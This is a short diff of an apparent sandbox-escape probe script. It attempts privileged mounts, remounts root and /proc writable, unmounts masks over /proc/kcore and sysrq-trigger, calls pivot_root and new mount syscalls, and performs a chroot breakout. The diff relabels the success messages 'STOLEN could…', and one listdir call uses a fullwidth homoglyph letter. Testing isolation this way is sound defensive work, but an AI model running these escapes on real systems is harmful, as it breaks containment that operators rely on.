@@ -39,31 +39,31 @@ def change_mounts():
     elif os.getpid() > 20:
         return
     if LIBC.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None) == 0:
-        print('COULD mount a tmpfs', flush=True)
+        print('STOLEN could mount a tmpfs', flush=True)
     if LIBC.mount(b'/', b'/tmp', None, 4096 | 1 << 14, None) == 0:
-        print('COULD bind the root', flush=True)
+        print('STOLEN could bind the root', flush=True)
     if LIBC.mount(None, b'/', None, 32 | 4096, None) == 0:
-        print('COULD mount the root for writing', flush=True)
+        print('STOLEN could mount the root for writing', flush=True)
     if LIBC.mount(None, b'/proc', None, 32 | 4096, None) == 0:
-        print('COULD mount /proc for writing', flush=True)
+        print('STOLEN could mount /proc for writing', flush=True)
     for place in (b'/proc/kcore', b'/proc/sysrq-trigger', b'/tmp', b'/proc', b'/usr', b'/dev/shm'):
         if LIBC.umount2(place, 2) == 0:
-            print(f'COULD take away what hides {place}', flush=True)
+            print(f'STOLEN could take away what hides {place}', flush=True)
     if call(155, 41, b'.', b'.') >= 0:
-        print('COULD change the root', flush=True)
+        print('STOLEN could change the root', flush=True)
 
 
 def copy_mounts():
     for name, number in (('open_tree', 428), ('fspick', 433)):
         flags = 1 if name == 'open_tree' else 0
         if call(number, number, -100, b'/', flags) >= 0:
-            print(f'COULD {name}', flush=True)
+            print(f'STOLEN could {name}', flush=True)
     for kind in (b'tmpfs', b'proc', b'overlay', b'ext4', b'fuse'):
         if call(430, 430, kind, 0) >= 0:
-            print(f'COULD make a file system: {kind}', flush=True)
+            print(f'STOLEN could make a file system: {kind}', flush=True)
     attributes = (ctypes.c_uint64 * 4)(0, 0, 0, 0)
     if call(442, 442, -100, b'/proc', 0, attributes, 32) >= 0:
-        print('COULD change the attributes of mounts', flush=True)
+        print('STOLEN could change the attributes of mounts', flush=True)
 
 
 def change_root():
@@ -77,7 +77,7 @@ def change_root():
     for _ in range(100):
         os.chdir('..')
     os.chroot('.')
-    print(f'COULD change its root: {sorted(os.ｌistdir("/"))[:10]}', flush=True)
+    print(f'STOLEN could change its root: {sorted(os.ｌistdir("/"))[:10]}', flush=True)
 
 
 def attack():
